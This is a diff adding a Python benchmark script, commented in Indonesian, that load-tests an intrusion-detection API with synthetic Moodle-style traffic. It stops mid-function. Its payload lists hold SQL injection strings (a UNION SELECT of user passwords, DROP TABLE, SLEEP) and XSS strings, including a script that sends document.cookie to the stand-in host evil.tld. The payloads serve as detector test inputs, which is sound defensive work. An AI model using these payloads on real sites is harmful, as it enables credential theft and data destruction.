@@ -0,0 +1,890 @@
+# =====================
+# Library Standar Python (Standard Library)
+# =====================
+import os                                   # Operasi sistem file (direktori hasil benchmark)
+import sys                                  # Kode keluar proses & informasi interpreter
+import json                                 # Serialisasi hasil benchmark dan payload sintetis
+import html                                 # Decode HTML escape (mengikuti alur make_prediction)
+import time                                 # Pengukuran waktu resolusi tinggi (perf_counter_ns)
+import uuid                                 # ID unik untuk job inline (mode in-process)
+import random                               # Generator acak ber-seed agar lalu lintas dapat direproduksi
+import statistics                           # Median hasil beberapa putaran benchmark
+import hashlib                              # Hash pesan (mengikuti deduplikasi subscribe_to_logs)
+import fnmatch                              # Pencocokan pola kunci pada stand-in Redis (scan_iter)
+import argparse                             # Parsing argumen baris perintah
+import platform                             # Informasi lingkungan untuk hasil yang dapat dibandingkan
+import datetime                             # Timestamp hasil benchmark
+import threading                            # Thread publisher Pub/Sub & lock stand-in Redis
+import subprocess                           # Mengambil commit git saat ini (opsional)
+import urllib.parse                         # Membangun URL dan body form-urlencoded
+
+# Cara pakai (dijalankan dari root proyek):
+#   python benchmark.py                                  # stand-in Redis in-process
+#   python benchmark.py --backend redis --allow-destructive   # Redis lokal (REDIS_HOST/REDIS_PORT)
+#   python benchmark.py --baseline benchmark_results/<file>.json
+#
+# PERINGATAN: mode redis bersifat destruktif. Cache prediksi tidak memiliki namespace sendiri
+# (predict.py selalu memakai db 0 dan kunci "prediction:*"), sehingga SEMUA kunci prediction:*
+# pada REDIS_HOST dihapus di awal setiap skenario. Gunakan hanya pada Redis khusus benchmark.
+# Job /predict dikirim ke antrean terpisah (--queue) agar tidak diambil worker produksi.
+#
+# Tahap end-to-end mode redis mengirim lalu lintas pada --rate permintaan/detik sementara worker
+# berjalan bersamaan. Dengan --rate 0 (tanpa batas) p50/p99 hanya mencerminkan panjang antrean,
+# sehingga tahap tersebut dilaporkan sebagai throughput dan tidak ikut gerbang regresi.
+#
+# Modul proyek (app, predict, worker) baru diimpor setelah backend dipilih, karena
+# ketiganya membuat koneksi Redis saat diimpor. Model tetap harus tersedia di MODEL_PATH.
+
+# Komposisi lalu lintas bawaan (kunci pendek -> label pada predict.LABELS)
+DEFAULT_MIX = {"normal": 0.80, "sqli": 0.12, "xss": 0.08}
+MIX_LABELS = {"normal": "Normal", "sqli": "SQL Injection", "xss": "XSS"}
+
+# Metrik yang dibandingkan dengan baseline untuk mendeteksi regresi
+COMPARED_METRICS = ("p50_us", "p99_us")
+RESULT_SCHEMA_VERSION = 3
+
+# Metrik yang dijumlahkan (bukan dimedian) antar putaran agar kegagalan tidak tersembunyi
+SUMMED_METRICS = ("failed",)
+
+# Laju bawaan (permintaan/detik) untuk tahap end-to-end mode redis
+DEFAULT_RATE = 100.0
+
+# Worker benchmark berhenti setelah antrean menganggur selama ini (detik)
+WORKER_IDLE_SECONDS = 1
+
+# Nilai-nilai untuk membangun permintaan sintetis (bergaya Moodle)
+USERNAMES = ["admin", "budi", "siti.rahma", "andi_p", "dosen01", "mhs2021", "guest"]
+SEARCH_TERMS = ["jaringan komputer", "basis data", "kalkulus", "pemrograman web", "statistika"]
+MESSAGES = [
+    "Terima kasih atas materinya, Pak.",
+    "Apakah tugas minggu ini dikumpulkan lewat forum?",
+    "Berikut saya lampirkan laporan praktikum.",
+    "Mohon izin bertanya mengenai kuis kemarin.",
+]
+FIRST_NAMES = ["Budi", "Siti", "Andi", "Rina", "Dewi", "Agus"]
+AJAX_METHODS = ["core_fetch_notifications", "core_course_get_recent_courses", "core_message_get_conversations"]
+
+SQLI_PAYLOADS = [
+    "1' OR '1'='1",
+    "admin'--",
+    "' OR 1=1#",
+    "1 UNION SELECT username,password FROM mdl_user--",
+    "1; DROP TABLE mdl_user",
+    "1' AND SLEEP(5)--",
+    "' UNION ALL SELECT NULL,NULL,@@version--",
+]
+XSS_PAYLOADS = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(document.cookie)>",
+    "&lt;svg onload=alert(1)&gt;",
+    "javascript:alert('xss')",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "\"><script>fetch('//evil.tld?c='+document.cookie)</script>",
+]
+
+
+class InMemoryRedis:
+    """Stand-in Redis in-process yang cukup untuk make_prediction dan create_app (ping/get/setex)."""
+
+    def __init__(self, *args, **kwargs):
+        self._data = {}
+        self._expiry = {}
+        self._lock = threading.Lock()
+
+    def _expired(self, name):
+        deadline = self._expiry.get(name)
+        if deadline is not None and time.monotonic() >= deadline:
+            self._data.pop(name, None)
+            self._expiry.pop(name, None)
+            return True
+        return False
+
+    def ping(self):
+        return True
+
+    def get(self, name):
+        with self._lock:
+            if self._expired(name):
+                return None
+            return self._data.get(name)
+
+    def set(self, name, value, ex=None):
+        with self._lock:
+            self._data[name] = str(value)
+            if ex is None:
+                self._expiry.pop(name, None)
+            else:
+                self._expiry[name] = time.monotonic() + ex
+        return True
+
+    def setex(self, name, time_seconds, value):
+        return self.set(name, value, ex=time_seconds)
+
+    def delete(self, *names):
+        with self._lock:
+            removed = 0
+            for name in names:
+                removed += self._data.pop(name, None) is not None
+                self._expiry.pop(name, None)
+            return removed
+
+    def scan_iter(self, match=None):
+        with self._lock:
+            keys = list(self._data)
+        return [k for k in keys if match is None or fnmatch.fnmatchcase(k, match)]
+
+
+class InlineJob:
+    """Job hasil InlineQueue; meniru atribut rq.job.Job yang dipakai endpoint /predict."""
+
+    def __init__(self, result):
+        self.id = uuid.uuid4().hex
+        self.result = result
+
+
+class InlineQueue:
+    """Antrean sinkron pengganti RQ: tugas langsung dijalankan saat enqueue (seperti Queue(is_async=False))."""
+
+    def __init__(self):
+        self.jobs = []
+
+    def enqueue(self, func, *args, job_timeout=None, **kwargs):
+        job = InlineJob(func(*args, **kwargs))
+        self.jobs.append(job)
+        return job
+
+
+class TrafficGenerator:
+    """Membangkitkan lalu lintas HTTP sintetis dengan campuran Normal/SQLi/XSS dan tingkat pengulangan tertentu."""
+
+    def __init__(self, mix=None, repeat_rate=0.3, seed=42):
+        self.mix = dict(mix or DEFAULT_MIX)
+        self.repeat_rate = repeat_rate
+        self.rng = random.Random(seed)
+        self._history = []
+        # Templat dengan body yang dapat disisipi payload serangan
+        self._injectable_templates = [
+            self._login_form,
+            self._course_search,
+            self._forum_post,
+            self._ajax_service,
+            self._profile_form,
+        ]
+        # Templat GET tanpa body, hanya untuk lalu lintas normal
+        self._plain_templates = [self._course_view]
+
+    def generate(self, n):
+        """Mengembalikan daftar n permintaan sintetis."""
+        return [self.next_request() for _ in range(n)]
+
+    def next_request(self):
+        """Membuat satu permintaan baru, atau mengulang permintaan lama (termasuk IP aslinya) sesuai repeat_rate."""
+        if self._history and self.rng.random() < self.repeat_rate:
+            request = dict(self.rng.choice(self._history), repeated=True)
+        else:
+            kind = self.rng.choices(list(self.mix), weights=list(self.mix.values()))[0]
+            request = self._build(kind)
+            self._history.append(request)
+        return request
+
+    def _build(self, kind):
+        """Menyusun permintaan dari templat acak; untuk serangan, payload disisipkan ke field yang dapat diinjeksi."""
+        # Serangan hanya masuk lewat body, karena model memprediksi dari isi body
+        templates = self._injectable_templates
+        if kind == "normal":
+            templates = templates + self._plain_templates
+        method, path, query, body_kind, fields, injectable = self.rng.choice(templates)()
+
+        if kind == "sqli":
+            fields[injectable] = self.rng.choice(SQLI_PAYLOADS)
+        elif kind == "xss":
+            fields[injectable] = self.rng.choice(XSS_PAYLOADS)
+
+        url = path + ("?" + urllib.parse.urlencode(query) if query else "")
+        return {
+            "kind": kind,
+            "label": MIX_LABELS.get(kind, kind),
+            "method": method,
+            "url": url,
+            "body": self._encode_body(body_kind, fields, query),
+            "ip": self._random_ip(),
+            "repeated": False,
+        }
+
+    def _encode_body(self, body_kind, fields, query):
+        """Mengubah field menjadi body mentah dengan format yang ditangani parse_payload."""
+        if body_kind == "form":
+            return urllib.parse.urlencode(fields)
+        if body_kind == "ajax":
+            return json.dumps([{"index": 0, "methodname": query.get("info", ""), "args": fields}])
+        if body_kind == "ajax_args":
+            return json.dumps([{
+                "index": 0,
+                "methodname": query.get("info", ""),
+                "args": [{"name": "contextid", "value": "1"},
+                         {"name": "formdata", "value": urllib.parse.urlencode(fields)}],
+            }])
+        return ""
+
+    def _sesskey(self):
+        return "".join(self.rng.choices("abcdefghijklmnopqrstuvwxyz0123456789", k=10))
+
+    def _random_ip(self):
+        return f"10.{self.rng.randint(0, 255)}.{self.rng.randint(0, 255)}.{self.rng.randint(1, 254)}"
+
+    def _login_form(self):
+        fields = {
+            "anchor": "",
+            "logintoken": self._sesskey() * 3,
+            "username": self.rng.choice(USERNAMES),
+            "password": f"Rahasia{self.rng.randint(100, 999)}!",
+        }
+        return "POST", "/login/index.php", {}, "form", fields, "username"
+
+    def _course_search(self):
+        fields = {"search": self.rng.choice(SEARCH_TERMS), "sesskey": self._sesskey()}
+        return "POST", "/course/search.php", {}, "form", fields, "search"
+
+    def _forum_post(self):
+        fields = {
+            "subject": "Re: " + self.rng.choice(SEARCH_TERMS),
+            "message[text]": self.rng.choice(MESSAGES),
+            "message[format]": "1",
+            "discussion": str(self.rng.randint(1, 500)),
+            "sesskey": self._sesskey(),
+            "_qf__mod_forum_post_form": "1",
+        }
+        return "POST", "/mod/forum/post.php", {}, "form", fields, "message[text]"
+
+    def _ajax_service(self):
+        query = {"sesskey": self._sesskey(), "info": self.rng.choice(AJAX_METHODS)}
+        fields = {"userid": self.rng.randint(2, 5000), "limit": 20, "offset": 0, "query": ""}
+        return "POST", "/lib/ajax/service.php", query, "ajax", fields, "query"
+
+    def _profile_form(self):
+        query = {"sesskey": self._sesskey(), "info": "core_user_submit_user_profile_form"}
+        fields = {
+            "id": str(self.rng.randint(2, 5000)),
+            "sesskey": query["sesskey"],
+            "firstname": self.rng.choice(FIRST_NAMES),
+            "city": "Jakarta",
+        }
+        return "POST", "/lib/ajax/service.php", query, "ajax_args", fields, "firstname"
+
+    def _course_view(self):
+        query = {"id": self.rng.randint(1, 300)}
+        return "GET", "/course/view.php", query, "none", {}, None
+
+
+def parse_mix(value):
+    """Mengubah string 'normal=0.8,sqli=0.12,xss=0.08' menjadi dict bobot."""
+    mix = {}
+    for part in value.split(","):
+        key, _, weight = part.partition("=")
+        key = key.strip().lower()
+        if key not in MIX_LABELS:
+            raise argparse.ArgumentTypeError(f"Jenis lalu lintas tidak dikenal: {key}")
+        try:
+            mix[key] = float(weight)
+        except ValueError:
+            raise argparse.ArgumentTypeError(f"Bobot tidak valid untuk {key}: {weight!r}")
+        if mix[key] < 0:
+            raise argparse.ArgumentTypeError(f"Bobot untuk {key} tidak boleh negatif")
+    if not mix or sum(mix.values()) <= 0:
+        raise argparse.ArgumentTypeError("Total bobot campuran harus lebih dari 0")
+    return mix
+
+
+def positive_int(value):
+    """Tipe argparse untuk bilangan bulat > 0."""
+    try:
+        number = int(value)
+    except ValueError:
+        raise argparse.ArgumentTypeError(f"Bukan bilangan bulat: {value!r}")
+    if number <= 0:
+        raise argparse.ArgumentTypeError(f"Harus lebih dari 0: {value}")
+    return number
+
+
+def unit_float(value):
+    """Tipe argparse untuk peluang di rentang 0-1."""
+    try:
+        number = float(value)
+    except ValueError:
+        raise argparse.ArgumentTypeError(f"Bukan bilangan: {value!r}")
+    if not 0.0 <= number <= 1.0:
+        raise argparse.ArgumentTypeError(f"Harus di rentang 0-1: {value}")
+    return number
+
+
+def non_negative_float(value):
+    """Tipe argparse untuk bilangan >= 0."""
+    try:
+        number = float(value)
+    except ValueError:
+        raise argparse.ArgumentTypeError(f"Bukan bilangan: {value!r}")
+    if number < 0:
+        raise argparse.ArgumentTypeError(f"Tidak boleh negatif: {value}")
+    return number
+
+
+def percentile(sorted_values, pct):
+    """Persentil nearest-rank dari daftar yang sudah terurut."""
+    if not sorted_values:
+        return 0.0
+    rank = max(1, -(-len(sorted_values) * pct // 100))
+    return sorted_values[int(rank) - 1]
+
+
+def summarize(samples_ns, wall_ns, **extra):
+    """Ringkasan statistik latensi (mikrodetik) dan throughput untuk satu tahap."""
+    ordered = sorted(samples_ns)
+    count = len(ordered)
+    summary = {
+        "count": count,
+        "mean_us": round(sum(ordered) / count / 1000, 3) if count else 0.0,
+        "p50_us": round(percentile(ordered, 50) / 1000, 3),
+        "p90_us": round(percentile(ordered, 90) / 1000, 3),
+        "p99_us": round(percentile(ordered, 99) / 1000, 3),
+        "max_us": round(ordered[-1] / 1000, 3) if count else 0.0,
+        "throughput_per_s": round(count / (wall_ns / 1e9), 1) if wall_ns else 0.0,
+    }
+    summary.update(extra)
+    return summary
+
+
+def time_calls(func, inputs, iterations, warmup=50):
+    """Menjalankan func untuk setiap input secara bergiliran dan mengukur latensi per panggilan."""
+    for i in range(min(warmup, iterations)):
+        func(inputs[i % len(inputs)])
+
+    samples = []
+    start = time.perf_counter_ns()
+    for i in range(iterations):
+        arg = inputs[i % len(inputs)]
+        t0 = time.perf_counter_ns()
+        func(arg)
+        samples.append(time.perf_counter_ns() - t0)
+    return summarize(samples, time.perf_counter_ns() - start)
+
+
+def install_backend(backend):
+    """Memasang stand-in Redis sebelum modul proyek diimpor (mode memory)."""
+    if backend == "memory":
+        import redis
+        redis.StrictRedis = InMemoryRedis
+        redis.Redis = InMemoryRedis
+
+
+def clear_prediction_cache(connection):
+    """Menghapus cache prediksi agar setiap skenario dimulai dari cache dingin."""
+    keys = list(connection.scan_iter(match="prediction:*"))
+    if keys:
+        connection.delete(*keys)
+
+
+def build_stage_inputs(requests, utils):
+    """Menyiapkan input tiap tahap mengikuti alur handle_pubsub_message dan make_prediction."""
+    bodies, parsed, flattened, urls, payload_texts, input_texts = [], [], [], [], [], []
+    for req in requests:
+        url = utils.mask_url_query(urllib.parse.unquote(req["url"]))
+        body = utils.parse_payload(req["body"], url=url, ip=req["ip"])
+        flat = utils.flatten_dict(body)
+        input_texts.append(html.unescape(" ".join(f"{k}={v}" for k, v in flat.items()).strip()))
+
+        flat.pop("raw", None)
+        cleaned = {
+            k: urllib.parse.unquote_plus(str(v)) if isinstance(v, str) else v
+            for k, v in flat.items()
+        }
+        bodies.append(req["body"])
+        parsed.append(body)
+        flattened.append(cleaned)
+        urls.append(req["url"])
+        payload_texts.append(f"{req['method']} {url} {utils.mask_sensitive_fields(cleaned)}".strip())
+    return {
+        "bodies": bodies,
+        "parsed": parsed,
+        "flattened": flattened,
+        "urls": urls,
+        "payload_texts": payload_texts,
+        "input_texts": input_texts,
+    }
+
+
+def expected_cache_hit_ratio(requests, input_texts):
+    """Rasio cache hit yang diharapkan: permintaan yang kunci cache-nya sudah muncul sebelumnya (TTL diabaikan).
+
+    Selain dipengaruhi repeat_rate, semua GET tanpa body berbagi satu kunci cache yang sama.
+    """
+    if not requests:
+        return 0.0
+    seen, hits = set(), 0
+    for req, input_text in zip(requests, input_texts):
+        key = f"{req['method']}:{hashlib.sha256(input_text.encode()).hexdigest()}"
+        hits += key in seen
+        seen.add(key)
+    return round(hits / len(requests), 4)
+
+
+def bench_micro(requests, iterations, utils, predict_module, expected_hits):
+    """Microbenchmark per tahap: parsing, flatten, masking, prediksi model, dan make_prediction."""
+    inputs = build_stage_inputs(requests, utils)
+    results = {
+        "micro.parse_payload": time_calls(lambda b: utils.parse_payload(b), inputs["bodies"], iterations),
+        "micro.flatten_dict": time_calls(utils.flatten_dict, inputs["parsed"], iterations),
+        "micro.mask_sensitive_fields": time_calls(utils.mask_sensitive_fields, inputs["flattened"], iterations),
+        "micro.mask_url_query": time_calls(utils.mask_url_query, inputs["urls"], iterations),
+        "micro.mask_inline_sensitive_fields": time_calls(
+            utils.mask_inline_sensitive_fields, inputs["payload_texts"], iterations
+        ),
+        "micro.predict_label": time_calls(predict_module.predict_label, inputs["input_texts"], iterations),
+    }
+
+    # make_prediction dijalankan sekali per permintaan tanpa pemanasan agar rasio cache dapat dibandingkan
+    # dengan expected_cache_hit_ratio dari urutan lalu lintas yang sama
+    clear_prediction_cache(predict_module.redis_client)
+    outcomes = []
+
+    def call(req):
+        outcomes.append(predict_module.make_prediction(req["method"], req["url"], req["body"], req["ip"]))
+
+    summary = time_calls(call, requests, len(requests), warmup=0)
+    summary["cache_hit_ratio"] = cache_hit_ratio(outcomes)
+    summary["expected_cache_hit_ratio"] = expected_hits
+    results["micro.make_prediction"] = summary
+    return results
+
+
+def cache_hit_ratio(outcomes):
+    """Rasio cache hit dari daftar hasil make_prediction."""
+    outcomes = [o for o in outcomes if isinstance(o, dict)]
+    if not outcomes:
+        return 0.0
+    return round(sum(1 for o in outcomes if o.get("cache_hit")) / len(outcomes), 4)
+
+
+def paced(items, rate):
+    """Mengembalikan item satu per satu dengan laju tetap (item/detik); rate 0 berarti tanpa jeda."""
+    interval = 1.0 / rate if rate else 0.0
+    next_send = time.perf_counter()
+    for item in items:
+        if interval:
+            delay = next_send - time.perf_counter()
+            if delay > 0:
+                time.sleep(delay)
+            next_send += interval
+        yield item
+
+
+def latency_flags(rate):
+    """Penanda tahap end-to-end mode redis: tanpa batas laju, p50/p99 mencerminkan panjang antrean."""
+    return {"request_rate": rate, "latency_gated": bool(rate)}
+
+
+def bench_predict_endpoint(requests, backend, app_module, predict_module, expected_hits, queue_name, rate):
+    """End-to-end jalur /predict: HTTP (Flask test client) -> antrean -> make_prediction."""
+    client = app_module.app.test_client()
+    clear_prediction_cache(predict_module.redis_client)
+
+    if backend == "memory":
+        # Tanpa Redis, antrean RQ diganti antrean sinkron sehingga latensi mencakup eksekusi job
+        queue = InlineQueue()
+        app_module.task_queue = queue
+        samples = []
+        start = time.perf_counter_ns()
+        for req in requests:
+            t0 = time.perf_counter_ns()
+            client.post("/predict", json={"payload": {"method": req["method"], "url": req["url"], "body": req["body"]}})
+            samples.append(time.perf_counter_ns() - t0)
+        wall = time.perf_counter_ns() - start
+        return {
+            "e2e.predict": summarize(
+                samples,
+                wall,
+                cache_hit_ratio=cache_hit_ratio([job.result for job in queue.jobs]),
+                expected_cache_hit_ratio=expected_hits,
+            )
+        }
+
+    import redis
+    from rq import Queue
+    from rq.job import Job
+    from worker import WorkerWithoutSignals, DummyDeathPenalty
+
+    # RQ menyimpan job sebagai pickle terkompresi, sehingga butuh koneksi tanpa decode_responses
+    # (redis_connection milik app memakai decode_responses=True). Antrean khusus benchmark agar
+    # job tidak diambil worker produksi di antrean 'default'.
+    connection = redis.StrictRedis(
+        host=os.getenv("REDIS_HOST", "localhost"),
+        port=int(os.getenv("REDIS_PORT", 6379)),
+        db=0
+    )
+    queue = Queue(queue_name, connection=connection)
+    app_module.task_queue = queue
+
+    # Worker berjalan bersamaan dengan pengiriman, sama seperti start_worker, dan berhenti sendiri
+    # setelah antrean menganggur selama WORKER_IDLE_SECONDS
+    worker_errors = []
+
+    def run_worker():
+        try:
+            with app_module.app.app_context():
+                worker = WorkerWithoutSignals([queue], connection=connection)
+                worker.death_penalty_class = DummyDeathPenalty
+                worker.work(with_scheduler=False, max_idle_time=WORKER_IDLE_SECONDS, logging_level="WARNING")
+        except Exception as e:
+            worker_errors.append(e)
+
+    worker_thread = threading.Thread(target=run_worker, name="BenchmarkWorker", daemon=True)
+    worker_thread.start()
+
+    http_samples, task_ids = [], []
+    start = time.perf_counter_ns()
+    for req in paced(requests, rate):
+        t0 = time.perf_counter_ns()
+        response = client.post(
+            "/predict", json={"payload": {"method": req["method"], "url": req["url"], "body": req["body"]}}
+        )
+        http_samples.append(time.perf_counter_ns() - t0)
+        task_ids.append(response.get_json()["task_id"])
+    enqueue_wall = time.perf_counter_ns() - start
+
+    # Tunggu hingga semua job berstatus akhir sebelum latensinya dibaca
+    deadline = time.monotonic() + 60
+    jobs = Job.fetch_many(task_ids, connection=connection)
+    while any(job is not None and not (job.is_finished or job.is_failed) for job in jobs):
+        if worker_errors:
+            raise RuntimeError(f"Worker benchmark berhenti: {worker_errors[0]}")
+        if time.monotonic() > deadline:
+            raise RuntimeError("Timeout menunggu job prediksi selesai")
+        time.sleep(0.01)
+        jobs = Job.fetch_many(task_ids, connection=connection)
+    total_wall = time.perf_counter_ns() - start
+    worker_thread.join()
+
+    finished = [job for job in jobs if job is not None and job.is_finished]
+    queue_to_done = [int((job.ended_at - job.enqueued_at).total_seconds() * 1e9) for job in finished]
+    execution = [int((job.ended_at - job.started_at).total_seconds() * 1e9) for job in finished]
+
+    # Waktu eksekusi per job tidak punya wall time sendiri, sehingga throughput tidak dilaporkan
+    job_execution = summarize(execution, 0)
+    job_execution.pop("throughput_per_s")
+    return {
+        "e2e.predict.http": summarize(http_samples, enqueue_wall, **latency_flags(rate)),
+        "e2e.predict.job": summarize(
+            queue_to_done,
+            total_wall,
+            failed=len(jobs) - len(finished),
+            cache_hit_ratio=cache_hit_ratio([job.result for job in finished]),
+            expected_cache_hit_ratio=expected_hits,
+            **latency_flags(rate),
+        ),
+        "e2e.predict.job_execution": job_execution,
+    }
+
+
+def to_pubsub_message(req, seq):
+    """Membentuk pesan http_logs dari permintaan sintetis; bench_seq membuat setiap pesan unik."""
+    return json.dumps({
+        "ip_address": req["ip"],
+        "method": req["method"],
+        "url": req["url"],
+        "payloadData": req["body"],
+        "bench_seq": seq,
+    })
+
+
+def process_pubsub_message(app_module, raw_message, processed_messages):
+    """Langkah per pesan yang sama dengan loop subscribe_to_logs (dedup hash, decode JSON, handle)."""
+    message_id = hashlib.sha256(raw_message.encode()).hexdigest()
+    if message_id in processed_messages:
+        return None
+    processed_messages.add(message_id)
+    data = json.loads(raw_message)
+    app_module.handle_pubsub_message(data)
+    return data
+
+
+def bench_pubsub(requests, backend, app_module, predict_module, channel, rate):
+    """End-to-end jalur subscriber http_logs.
+
+    Mode redis mengukur publish -> terima -> handle_pubsub_message (tahap e2e.pubsub). Mode memory tidak
+    memiliki Pub/Sub, sehingga hanya langkah per pesan yang diukur (tahap e2e.pubsub.handle).
+    """
+    messages = [to_pubsub_message(req, seq) for seq, req in enumerate(requests)]
+    clear_prediction_cache(predict_module.redis_client)
+    processed_messages = set()
+
+    with app_module.app.app_context():
+        if backend == "memory":
+            samples = []
+            start = time.perf_counter_ns()
+            for raw_message in messages:
+                t0 = time.perf_counter_ns()
+                process_pubsub_message(app_module, raw_message, processed_messages)
+                samples.append(time.perf_counter_ns() - t0)
+            return {"e2e.pubsub.handle": summarize(samples, time.perf_counter_ns() - start)}
+
+        connection = app_module.redis_connection
+        pubsub = connection.pubsub()
+        pubsub.subscribe(channel)
+        while pubsub.get_message(timeout=1.0) is None:
+            pass  # Tunggu konfirmasi subscribe sebelum mulai publish
+
+        sent_at = {}
+
+        def publish_all():
+            for seq, raw_message in paced(enumerate(messages), rate):
+                sent_at[seq] = time.perf_counter_ns()
+                connection.publish(channel, raw_message)
+
+        publisher = threading.Thread(target=publish_all, name="BenchmarkPublisher", daemon=True)
+        samples = []
+        start = time.perf_counter_ns()
+        publisher.start()
+        try:
+            while len(samples) < len(messages):
+                message = pubsub.get_message(timeout=10.0)
+                if message is None:
+                    raise RuntimeError("Timeout menunggu pesan Pub/Sub")
+                if message["type"] != "message":
+                    continue
+                data = process_pubsub_message(app_module, message["data"], processed_messages)
+                if data is not None:
+                    samples.append(time.perf_counter_ns() - sent_at[data["bench_seq"]])
+        finally:
+            publisher.join()
+            pubsub.unsubscribe(channel)
+            pubsub.close()
+        return {"e2e.pubsub": summarize(samples, time.perf_counter_ns() - start, **latency_flags(rate))}
+
+
+def git_commit():
+    """Mengembalikan hash commit git saat ini, atau None jika tidak tersedia."""
+    try:
+        return subprocess.check_output(
+            ["git", "rev-parse", "--short", "HEAD"], stderr=subprocess.DEVNULL, text=True
+        ).strip()
+    except (OSError, subprocess.CalledProcessError):
+        return None
+
+
+def merge_rounds(round_results):
+    """Menggabungkan hasil beberapa putaran: metrik numerik diambil mediannya, kecuali SUMMED_METRICS yang dijumlahkan."""
+    merged = {}
+    for stage, first in round_results[0].items():
+        runs = [r[stage] for r in round_results if stage in r]
+        summary = {}
+        for key, value in first.items():
+            if isinstance(value, bool):
+                summary[key] = value
+            elif key in SUMMED_METRICS:
+                summary[key] = sum(run[key] for run in runs)
+            elif isinstance(value, int):
+                summary[key] = statistics.median_low(run[key] for run in runs)
+            elif isinstance(value, float):
+                summary[key] = round(statistics.median(run[key] for run in runs), 4)
+            else:
+                summary[key] = value
+        summary["rounds"] = len(runs)
+        for metric in COMPARED_METRICS:
+            summary[f"{metric}_rounds"] = [run[metric] for run in runs]
+        merged[stage] = summary
+    return merged
+
+
+def check_results(results, backend):
+    """Mengembalikan daftar masalah yang membuat hasil tidak dapat dipercaya (job gagal, rasio cache menyimpang)."""
+    problems = []
+    for stage, result in results.items():
+        if result.get("failed"):
+            problems.append(f"{stage}: {result['failed']} job gagal")
+        # Hanya stand-in in-process yang deterministik; di Redis sungguhan TTL/klien lain dapat memengaruhi cache
+        if backend == "memory" and "expected_cache_hit_ratio" in result:
+            if result.get("cache_hit_ratio") != result["expected_cache_hit_ratio"]:
+                problems.append(
+                    f"{stage}: cache_hit_ratio {result.get('cache_hit_ratio')} "
+                    f"!= expected_cache_hit_ratio {result['expected_cache_hit_ratio']}"
+                )
+    return problems
+
+
+def compare_results(current, baseline, thresholds):
+    """Membandingkan hasil dengan baseline.
+
+    Menolak (ValueError) jika backend, skema, atau konfigurasi berbeda. Tahap dengan latency_gated=False
+    (tanpa batas laju) tidak ikut dibandingkan. Mengembalikan daftar regresi (tahap, metrik, baseline,
+    sekarang) dan daftar tahap baseline yang tidak ada di hasil sekarang.
+    """
+    mismatches = [
+        f"{field}: {baseline.get(field)!r} vs {current.get(field)!r}"
+        for field in ("schema", "backend", "config")
+        if current.get(field) != baseline.get(field)
+    ]
+    if mismatches:
+        raise ValueError("Baseline tidak sebanding: " + "; ".join(mismatches))
+
+    regressions = []
+    print(f"{'tahap':<36} {'metrik':<8} {'baseline':>12} {'sekarang':>12} {'delta':>9}")
+    for stage, result in current["results"].items():
+        base = baseline.get("results", {}).get(stage)
+        if not base:
+            continue
+        if not (result.get("latency_gated", True) and base.get("latency_gated", True)):
+            print(f"{stage:<36} dilewati: tanpa batas laju, p50/p99 hanya mencerminkan panjang antrean")
+            continue
+        for metric, threshold in thresholds.items():
+            old, new = base.get(metric), result.get(metric)
+            if not old or new is None:
+                continue
+            delta = (new - old) / old
+            status = "REGRESI" if delta > threshold else ""
+            print(f"{stage:<36} {metric:<8} {old:>12.3f} {new:>12.3f} {delta:>+8.1%} {status}")
+            if status:
+                regressions.append((stage, metric, old, new))
+
+    missing = [stage for stage in baseline.get("results", {}) if stage not in current["results"]]
+    for stage in missing:
+        print(f"{stage:<36} HILANG: ada di baseline, tidak ada di hasil sekarang")
+    return regressions, missing
+
+
+def print_results(results):
+    """Mencetak ringkasan hasil benchmark ke konsol."""
+    print(f"{'tahap':<36} {'n':>7} {'p50 us':>10} {'p99 us':>10} {'ops/s':>10}")
+    for stage, r in results.items():
+        print(f"{stage:<36} {r['count']:>7} {r['p50_us']:>10.1f} {r['p99_us']:>10.1f} {r.get('throughput_per_s', 0.0):>10.1f}")
+
+
+def parse_args(argv=None):
+    """Argumen baris perintah untuk benchmark."""
+    parser = argparse.ArgumentParser(description="Benchmark dan generator beban untuk API Deteksi Intrusi")
+    parser.add_argument("--backend", choices=["memory", "redis"], default="memory",
+                        help="memory: stand-in Redis in-process; redis: Redis lokal (REDIS_HOST/REDIS_PORT)")
+    parser.add_argument("--scenarios", default="micro,predict,pubsub",
+                        help="Daftar skenario dipisah koma: micro, predict, pubsub")
+    parser.add_argument("--allow-destructive", action="store_true",
+                        help="Wajib untuk --backend redis: menghapus semua kunci prediction:* pada REDIS_HOST")
+    parser.add_argument("--queue", default="benchmark", help="Nama antrean RQ untuk mode redis")
+    parser.add_argument("-n", "--requests", type=positive_int, default=2000,
+                        help="Jumlah permintaan sintetis per skenario")
+    parser.add_argument("--iterations", type=positive_int, default=5000, help="Jumlah panggilan per microbenchmark")
+    parser.add_argument("--rounds", type=positive_int, default=5,
+                        help="Jumlah putaran; metrik yang dilaporkan adalah median antar putaran")
+    parser.add_argument("--mix", type=parse_mix, default=DEFAULT_MIX,
+                        help="Bobot campuran lalu lintas, mis. normal=0.8,sqli=0.12,xss=0.08")
+    parser.add_argument("--repeat-rate", type=unit_float, default=0.3,
+                        help="Peluang sebuah permintaan mengulang permintaan sebelumnya (0-1)")
+    parser.add_argument("--seed", type=int, default=42, help="Seed generator lalu lintas")
+    parser.add_argument("--channel", default="http_logs_benchmark",
+                        help="Kanal Pub/Sub untuk mode redis (bukan http_logs agar subscriber produksi tidak ikut)")
+    parser.add_argument("--rate", type=non_negative_float, default=DEFAULT_RATE,
+                        help="Laju permintaan/detik untuk tahap end-to-end mode redis (0 = tanpa batas; "
+                             "p50/p99 tahap tersebut tidak ikut gerbang regresi)")
+    parser.add_argument("--output", default="benchmark_results", help="Direktori penyimpanan hasil JSON")
+    parser.add_argument("--baseline", help="File hasil sebelumnya untuk pembandingan regresi")
+    parser.add_argument("--threshold", type=non_negative_float, default=0.10,
+                        help="Ambang regresi relatif untuk p50 (0.10 = 10%%)")
+    parser.add_argument("--p99-threshold", type=non_negative_float, default=0.30,
+                        help="Ambang regresi relatif untuk p99, lebih longgar karena ekor latensi lebih berisik")
+    return parser.parse_args(argv)
+
+
+def main(argv=None):
+    """Entry point benchmark: bangkitkan lalu lintas, jalankan skenario, simpan dan bandingkan hasil."""
+    args = parse_args(argv)
+    scenarios = [s.strip() for s in args.scenarios.split(",") if s.strip()]
+
+    if args.backend == "redis" and not args.allow_destructive:
+        print("[Benchmark] --backend redis menghapus semua kunci prediction:* pada REDIS_HOST; "
+              "tambahkan --allow-destructive jika Redis ini khusus benchmark.")
+        return 2
+
+    install_backend(args.backend)
+    try:
+        import utils
+        import predict as predict_module
+        import app as app_module
+    except RuntimeError as e:
